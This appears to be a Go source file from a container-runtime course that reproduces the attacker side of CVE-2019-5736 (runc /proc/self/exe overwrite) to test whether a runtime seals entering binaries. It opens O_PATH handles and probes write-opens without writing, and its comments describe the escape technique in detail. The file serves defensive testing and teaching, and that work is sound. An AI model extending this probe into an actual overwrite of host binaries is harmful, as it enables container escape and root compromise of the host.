// Command exeattack plays the attacker of CVE-2019-5736 (runc's
// /proc/self/exe overwrite) against whatever enters a container, and
// reports how far it got. It never writes a byte: a write-open that
// succeeds is the whole proof.
//
//	exeattack container [--for DURATION]    (as a container's command)
//	exeattack host [--out FILE] -- CMD ARGS  (on the host, around a run)
//
// The attack: a process that enters the container's PID namespace is
// visible in the container's /proc. A process there with CAP_SYS_PTRACE
// may open /proc/PID/exe, the file that process runs, with O_PATH
// (which needs no right to the file itself). While the file runs,
// opening it for writing fails (ETXTBSY); once the process has exec'd
// something else, reopening the O_PATH descriptor through
// /proc/self/fd/N for writing succeeds, and the attacker can replace
// the host's program, which root runs next time. A runtime closes the
// door by running every program that enters from a file nobody can
// write: a sealed memfd (F_SEAL_WRITE) or a read-only mount (EROFS).
//
// In container mode it watches the container's /proc until SIGTERM or
// --for; in host mode it runs CMD as its child (a subreaper, so detached
// monitors stay its descendants) and watches CMD's descendants that are
// in another PID namespace than its own, that is, the processes a
// container could see, until CMD ends. Each line of the report:
//
//	handle pid=N nspid=N comm=NAME ro=BOOL sealed=BOOL dev=MAJ:MIN ino=INO own=OWN target=PATH
//	writable pid=N nspid=N dev=MAJ:MIN ino=INO own=OWN target=PATH
//	summary handles=N writable=M
//
// ro says the file is on a read-only mount (fstatfs ST_RDONLY), sealed
// that it is a memfd sealed against writing (F_GET_SEALS): what a
// runtime must give every program that enters a container.
//
// own says the file is on the container's own root filesystem (the same
// device as the attacker's "/", or in host mode as the process's root):
// the container's own programs are writable by its root, no escape.
// In host mode it is "unknown" when the process ended before its root
// could be read (a short command such as true).
//
// It belongs to lesson 09 (lessons/09-mini-docker.md), where the CVE is told.
package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"os"
	"os/exec"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// handle is an O_PATH descriptor of one program some process ran.
type handle struct {
	fd       int
	pid      int
	nspid    string // its PID in its own namespace (1: the namespace's first)
	dev, ino uint64
	own      string // true, false, or unknown (host mode: the process ended before its root was read)
	target   string
	done     bool // a write-open succeeded: reported once
}

type attacker struct {
	out      io.Writer
	self     int
	rootDev  uint64 // device of our "/", container mode
	hostMode bool
	pidns    string // our PID namespace (host mode: skip processes in it)
	seen     map[string]bool
	handles  []*handle
	writable int
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: exeattack container [--for DURATION] | exeattack host [--out FILE] -- CMD ARGS")
		os.Exit(2)
	}
	a := &attacker{out: os.Stdout, self: os.Getpid(), seen: map[string]bool{}}
	var st unix.Stat_t
	if err := unix.Stat("/", &st); err == nil {
		a.rootDev = st.Dev
	}
	a.pidns, _ = os.Readlink("/proc/self/ns/pid")
	switch os.Args[1] {
	case "container":
		fs := flag.NewFlagSet("container", flag.ExitOnError)
		dur := fs.Duration("for", time.Hour, "how long to watch")
		fs.Parse(os.Args[2:])
		os.Exit(a.container(*dur))
	case "host":
		fs := flag.NewFlagSet("host", flag.ExitOnError)
		out := fs.String("out", "", "report file (default stderr)")
		fs.Parse(os.Args[2:])
		os.Exit(a.host(*out, fs.Args()))
	}
	fmt.Fprintf(os.Stderr, "exeattack: error: unknown mode %q\n", os.Args[1])
	os.Exit(2)
}

func (a *attacker) container(dur time.Duration) int {
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
	w := bufio.NewWriter(os.Stdout)
	a.out = w
	fmt.Fprintln(w, "watching")
	w.Flush()
	deadline := time.Now().Add(dur)
	for time.Now().Before(deadline) {
		select {
		case <-stop:
			deadline = time.Now()
		default:
		}
		a.scan()
		a.tryWrites()
		w.Flush()
	}
	a.summary()
	w.Flush()
	return 0
}

func (a *attacker) host(out string, argv []string) int {
	if len(argv) == 0 {
		fmt.Fprintln(os.Stderr, "exeattack: error: host mode needs -- CMD")
		return 2
	}
	a.hostMode = true
	a.out = os.Stderr
	if out != "" {
		f, err := os.Create(out)
		if err != nil {
			fmt.Fprintf(os.Stderr, "exeattack: error: %v\n", err)
			return 2
		}
		defer f.Close()
		a.out = f
	}
	// Orphans (a detached container's monitor) become our children, so
	// they stay in the tree we watch.
	unix.Prctl(unix.PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	if err := cmd.Start(); err != nil {
		fmt.Fprintf(os.Stderr, "exeattack: error: %v\n", err)
		return 127
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	for running := true; running; {
		select {
		case <-done:
			running = false
		default:
		}
		a.scan()
		a.tryWrites()
	}
	// The processes are gone now: the files they ran are no longer busy,
	// so this last round is where a writable host file shows.
	a.scan()
	a.tryWrites()
	a.reapOrphans()
	a.summary()
	return cmd.ProcessState.ExitCode()
}

// reapOrphans waits for any adopted orphan that has ended.
func (a *attacker) reapOrphans() {
	for {
		var ws unix.WaitStatus
		pid, err := unix.Wait4(-1, &ws, unix.WNOHANG, nil)
		if pid <= 0 || err != nil {
			return
		}
	}
}

// scan takes an O_PATH handle of every program a watched process runs
// now, once per (process, program).
func (a *attacker) scan() {
	var names []string
	if a.hostMode {
		names = a.descendants()
	} else {
		d, err := os.Open("/proc")
		if err != nil {
			return
		}
		names, _ = d.Readdirnames(-1)
		d.Close()
	}
	for _, n := range names {
		pid, err := strconv.Atoi(n)
		if err != nil || pid == a.self {
			continue
		}
		if a.hostMode && !a.otherPidns(pid) {
			continue
		}
		proc := "/proc/" + n
		link, err := os.Readlink(proc + "/exe")
		if err != nil || a.seen[n+" "+link] {
			continue
		}
		fd, err := unix.Open(proc+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			continue // EACCES without CAP_SYS_PTRACE; or gone
		}
		// The process may have exec'd between readlink and open: name
		// the handle by what it holds.
		target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		a.seen[n+" "+link] = true
		a.seen[n+" "+target] = true
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			unix.Close(fd)
			continue
		}
		own := strconv.FormatBool(st.Dev == a.rootDev)
		if a.hostMode {
			// The process's own root: the container's, once it pivoted.
			// A process that ended since the open has none to read:
			// then nobody can say whose the file is (the judge decides
			// by its device).
			var rst unix.Stat_t
			own = "unknown"
			if unix.Stat(proc+"/root/", &rst) == nil {
				own = strconv.FormatBool(st.Dev == rst.Dev)
			}
		}
		h := &handle{fd: fd, pid: pid, nspid: nsPid(proc), dev: st.Dev, ino: st.Ino, target: target, own: own}
		comm, _ := os.ReadFile(proc + "/comm")
		var sfs unix.Statfs_t
		ro := unix.Fstatfs(fd, &sfs) == nil && sfs.Flags&unix.ST_RDONLY != 0
		sealed := false
		if r, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			seals, err := unix.FcntlInt(uintptr(r), unix.F_GET_SEALS, 0)
			sealed = err == nil && seals&unix.F_SEAL_WRITE != 0
			unix.Close(r)
		}
		fmt.Fprintf(a.out, "handle pid=%d nspid=%s comm=%s ro=%t sealed=%t dev=%d:%d ino=%d own=%s target=%s\n",
			pid, h.nspid, strings.TrimSpace(string(comm)), ro, sealed, unix.Major(h.dev), unix.Minor(h.dev), h.ino, h.own, target)
		a.handles = append(a.handles, h)
		if len(a.handles) > 4000 {
			a.handles[0].close()
			a.handles = a.handles[1:]
		}
	}
}

// descendants lists, in host mode, every process below us: a walk of
// the children files of each thread, from ours down (we are a
// subreaper, so orphans are ours too). A few reads per process of the
// run instead of a pass over every process of the host: the tools of a
// chain live for milliseconds.
func (a *attacker) descendants() []string {
	var out []string
	queue := []string{strconv.Itoa(a.self)}
	for len(queue) > 0 {
		pid := queue[0]
		queue = queue[1:]
		tasks, _ := os.ReadDir("/proc/" + pid + "/task")
		for _, t := range tasks {
			b, err := os.ReadFile("/proc/" + pid + "/task/" + t.Name() + "/children")
			if err != nil {
				continue
			}
			for _, kid := range strings.Fields(string(b)) {
				out = append(out, kid)
				queue = append(queue, kid)
			}
		}
	}
	return out
}

// otherPidns says whether pid is in another PID namespace than ours:
// a container could see it.
func (a *attacker) otherPidns(pid int) bool {
	ns, err := os.Readlink("/proc/" + strconv.Itoa(pid) + "/ns/pid")
	return err == nil && ns != a.pidns
}

// tryWrites reopens every handle for writing, as the attack does once
// the process has moved on. A sealed memfd opens but refuses writes, so
// a write-open counts only if the file is not sealed against writing.
func (a *attacker) tryWrites() {
	for _, h := range a.handles {
		if h.done {
			continue
		}
		fd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(h.fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue // ETXTBSY while it runs; EROFS, EACCES, EPERM for good
		}
		seals, serr := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0)
		unix.Close(fd)
		if serr == nil && seals&unix.F_SEAL_WRITE != 0 {
			continue
		}
		h.done = true
		a.writable++
		fmt.Fprintf(a.out, "writable pid=%d nspid=%s dev=%d:%d ino=%d own=%s target=%s\n",
			h.pid, h.nspid, unix.Major(h.dev), unix.Minor(h.dev), h.ino, h.own, h.target)
	}
}

func (h *handle) close() { unix.Close(h.fd) }

// nsPid reads a process's PID in its innermost PID namespace (the last
// field of NSpid in /proc/PID/status).
func nsPid(proc string) string {
	b, _ := os.ReadFile(proc + "/status")
	for _, l := range strings.Split(string(b), "\n") {
		if f := strings.Fields(l); len(f) > 1 && f[0] == "NSpid:" {
			return f[len(f)-1]
		}
	}
	return "?"
}

func (a *attacker) summary() {
	fmt.Fprintf(a.out, "summary handles=%d writable=%d\n", len(a.handles), a.writable)
}
